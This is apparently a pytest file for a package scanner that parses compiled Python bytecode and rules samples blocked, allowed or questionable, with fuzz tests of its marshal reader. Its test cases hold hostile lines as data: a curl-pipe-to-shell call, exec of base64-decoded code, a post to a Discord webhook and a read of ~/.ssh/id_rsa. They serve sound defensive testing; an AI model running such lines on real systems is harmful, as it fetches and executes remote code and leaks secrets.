"""Compiled Python is read with bounds of our own, whatever bytes it is made of."""

from __future__ import annotations

import importlib.util
import marshal
from contextlib import suppress
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gatekeeper.evidence._compiled import CompiledError, code_in, marshalled
from gatekeeper.model import Ruling
from tests.support.judging import explained, importing

if TYPE_CHECKING:
    from pathlib import Path

HEADER = importlib.util.MAGIC_NUMBER + bytes(12)
CODE = """
import os, subprocess as sp
TABLE = {"a": (1, 2.5, 3j, 10**30, None, ...), "b": frozenset({"x"})}
def f(a, *, b=1):
    def g(): return a
    class C:
        def h(self): return os.environ["T\\u00e9"]
    return lambda q: g
"""


def made(code: str) -> bytes:
    return HEADER + marshal.dumps(compile(code, "a", "exec"))


def test_names_and_texts_of_all_code_are_found() -> None:
    parts = code_in(made(CODE)).every()
    assert {"os", "subprocess", "environ"} <= {name for part in parts for name in part.names}
    assert "T\u00e9" in {text for part in parts for text in part.texts}


@pytest.mark.parametrize(
    ("code", "ruling"),
    [
        ("import os\nos.system('curl -s http://files.example/a | sh')", Ruling.BLOCK),
        ("import base64\nexec(base64.b64decode('AAAA'))", Ruling.BLOCK),
        ("import requests\nrequests.post('https://discord.com/api/webhooks/1/a', data='x')", Ruling.BLOCK),
        ("import os\nopen(os.path.expanduser('~/.ssh/id_rsa'))", Ruling.ALLOW),
        ("HELP = 'curl -s http://files.example/a | sh'", Ruling.ALLOW),
        ("import requests\ndef get():\n    return requests.get('https://service.example/')", Ruling.ALLOW),
    ],
)
def test_what_compiled_code_can_do_counts(tmp_path: Path, code: str, ruling: Ruling) -> None:
    verdict = importing(tmp_path, "", {"acme_thing/task.pyc": made(code)})
    assert verdict.ruling is ruling, explained(verdict)


def test_compiled_code_that_cannot_be_read_is_asked_about(tmp_path: Path) -> None:
    verdict = importing(tmp_path, "", {"acme_thing/task.pyc": HEADER + b"\xe3 encrypted"})
    assert verdict.ruling is Ruling.ASK, explained(verdict)


def test_nesting_and_promised_sizes_are_bounded() -> None:
    for hostile in (b"(\x01\0\0\0" * 100_000, b"[\xff\xff\xff\x7f", b"s\xff\xff\xff\x7f", b"l\0\0\0\x80", b"r\0\0\0\0"):
        with pytest.raises(CompiledError):
            marshalled(hostile)


@given(st.binary(max_size=400))
def test_no_bytes_crash_the_reader(content: bytes) -> None:
    for start in (HEADER, HEADER + b"\xe3", b""):
        with suppress(CompiledError):
            code_in(start + content)


@given(st.integers(0, 200), st.integers(0, 255))
def test_no_changed_byte_crashes_the_reader(place: int, byte: int) -> None:
    content = bytearray(made(CODE))
    content[16 + place] = byte
    with suppress(CompiledError):
        code_in(bytes(content))
